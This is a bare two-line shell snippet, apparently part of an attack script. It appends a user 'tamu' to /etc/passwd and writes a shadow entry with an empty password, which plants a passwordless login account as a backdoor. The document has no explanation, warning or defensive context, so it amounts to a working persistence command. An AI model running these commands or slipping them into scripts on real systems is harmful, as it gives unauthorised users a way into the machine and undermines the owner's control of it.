echo 'tamu:x:1500:1500::/home/tamu:/bin/sh' >>/etc/passwd
echo 'tamu::20000:0:99999:7:::' >>/etc/shadow
